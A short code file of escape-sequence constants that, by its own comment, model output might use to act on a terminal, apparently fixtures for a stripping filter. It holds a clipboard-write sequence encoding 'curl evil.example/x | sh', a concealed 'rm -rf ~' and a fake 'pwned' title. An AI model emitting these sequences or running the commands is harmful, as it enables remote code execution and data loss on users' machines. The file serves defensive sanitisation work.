// What a hostile model answer carries to act on a terminal: each must be stripped before it is printed or committed.
export const ESC = '\x1b';
export const CLEAR = `${ESC}[2J${ESC}[H`;
export const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07`; // OSC 52: "curl evil.example/x | sh"
export const TITLE = `${ESC}]0;you have been pwned${ESC}\\`; // OSC 0, ST-terminated
export const CONCEALED = `${ESC}[8mrm -rf ~${ESC}[28m`;
export const C1 = '\x9b31m\x9d0;c1 title\x9c\x85';
